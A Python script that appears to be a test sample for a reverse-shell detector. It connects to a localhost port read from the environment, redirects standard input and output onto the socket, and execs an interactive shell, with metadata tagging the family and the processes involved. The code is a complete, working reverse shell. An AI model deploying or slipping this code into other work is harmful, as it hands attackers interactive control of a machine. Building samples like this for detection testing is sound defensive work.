#!/usr/bin/python3
# family: reverse-shell
# needs: listener
# actors: python3.*|sh|dash|bash
"""Classic Python reverse shell: connect back, dup2 the socket onto 0/1/2, exec an interactive shell.
The commands the attacker types (id, uname, ...) run as children of the shell: bystanders."""
import os, random, socket, time
rng = random.Random(int(os.environ["PG_SEED"]))
time.sleep(rng.uniform(0, 0.4))
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("127.0.0.1", int(os.environ["PG_PORT"])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
shell = rng.choice(["/bin/sh", "/bin/bash", "/bin/dash"])
os.execv(shell, [shell, "-i"])
